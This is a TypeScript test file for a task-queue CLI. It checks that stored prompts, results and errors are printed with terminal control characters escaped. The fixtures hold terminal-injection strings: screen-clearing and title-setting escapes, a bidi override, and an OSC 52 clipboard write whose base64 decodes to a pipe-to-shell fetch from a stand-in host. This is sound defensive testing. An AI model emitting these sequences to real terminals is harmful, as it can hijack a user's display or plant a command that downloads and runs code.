/**
 * `fleet task` prints what others wrote (prompts, results, errors, the queue's messages): control characters
 * reach the reader escaped, in the human format, into a pipe exactly as on a terminal (the same function
 * renders both); `--json` stays exact JSON of the stored text. Real queue process, real CLI processes.
 */
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { printable } from "../../cli/printable.js";
import { api, fleetRun, startServer, stopAll, tempDir, tokenOf, writeTokens, type ServerProc } from "./harness.js";

let server: ServerProc;
const cli = (args: string[]) => fleetRun(["task", ...args], { FLEET_QUEUE_URL: server.url, FLEET_TOKEN: tokenOf("alpha") });

const ESC = "\u001b";
const PROMPT = `Run ${ESC}[2J${ESC}]0;pwned\u0007 uptime \u202eevil`;
const RESULT = `line 1\n${ESC}[31mred${ESC}[0m\tcolumn\r\nline 3 ${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`;
const ERROR = `failed:\n${ESC}[1A${ESC}[2Kexit 1 \u009b31m`;

beforeAll(async () => {
  const dir = tempDir();
  server = await startServer({ db: join(dir, "q.db"), tokens: writeTokens(dir, { alpha: {} }), leaseSeconds: 60 });
  const t = await api(server.url, "POST", "/v1/tasks", { body: { target: "alpha", prompt: PROMPT, model: "haiku" } });
  expect(t.status).toBe(201);
  const claim = await api(server.url, "POST", "/v1/claim", { body: { node: "alpha", worker: "alpha/w/0" } });
  const done = await api(server.url, "POST", "/v1/tasks/1/complete", { body: { leaseId: claim.body.leaseId, outcome: "failed", result: RESULT, error: ERROR, exitCode: 1 } });
  expect(done.status).toBe(200);
  expect((await api(server.url, "POST", "/v1/tasks", { body: { target: "alpha", prompt: PROMPT } })).status).toBe(201);
}, 60_000);
afterAll(stopAll);

describe("printable", () => {
  it.each([
    ["plain text", "Run uptime", false, "Run uptime"],
    ["ESC and BEL", `${ESC}]0;t\u0007`, false, "\\x1b]0;t\\x07"],
    ["newline, tab, CR on one line", "a\nb\tc\rd", false, "a\\nb\\tc\\rd"],
    ["newline and tab kept on several lines, CR escaped", "a\nb\tc\r\nd", true, "a\nb\tc\\r\nd"],
    ["DEL, C1 CSI, NUL", "\u007f\u009b\u0000", true, "\\x7f\\u009b\\x00"],
    ["bidi overrides and isolates", "a\u202eb\u2066c\u200fd", false, "a\\u202eb\\u2066c\\u200fd"],
    ["emoji and accents untouched", "café 😀", false, "café 😀"],
  ])("%s", (_n, text, multiLine, expected) => {
    expect(printable(text, multiLine)).toBe(expected);
  });
});

describe("fleet task prints others' text escaped", () => {
  it("show: prompt on one line, result and error keep their lines, nothing raw", async () => {
    const r = await cli(["show", "1"]);
    expect(r.code).toBe(0);
    expect(r.out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    const lines = r.out.split("\n");
    expect(lines).toContain("  prompt     Run \\x1b[2J\\x1b]0;pwned\\x07 uptime \\u202eevil");
    expect(lines).toContain("  error      failed:");
    expect(lines).toContain("\\x1b[1A\\x1b[2Kexit 1 \\u009b31m");
    expect(r.out).toContain("\nline 1\n\\x1b[31mred\\x1b[0m\tcolumn\\r\nline 3 \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\n");
  });

  it("list and status: the prompt column escaped", async () => {
    const list = await cli(["list"]);
    expect(list.out).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(list.out).toContain("Run \\x1b[2J\\x1b]0;pwned\\x07 uptime \\u202eevil");
    const status = await cli(["status"]);
    expect(status.out).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(status.out).toContain("  #2 [alpha] medium  Run \\x1b[2J\\x1b]0;pwned\\x07 uptime \\u202eevil");
  });

  it("--json is exact JSON of the stored text", async () => {
    const r = await cli(["show", "1", "--json"]);
    expect(JSON.parse(r.out)).toMatchObject({ prompt: PROMPT, result: RESULT, error: ERROR });
    const list = await cli(["list", "--json"]);
    expect(JSON.parse(list.out).map((t: { prompt: string }) => t.prompt)).toEqual([PROMPT, PROMPT]);
  });

  it("the queue's refusal, echoing what was sent, is escaped too", async () => {
    const r = await cli(["list", "--node", `${ESC}[2J`]);
    expect(r.code).toBe(2);
    expect(r.out).not.toContain(ESC);
    expect(r.out).toContain('queue refused (HTTP 400): query "node": unknown node "\\u001b[2J"');
  });
});
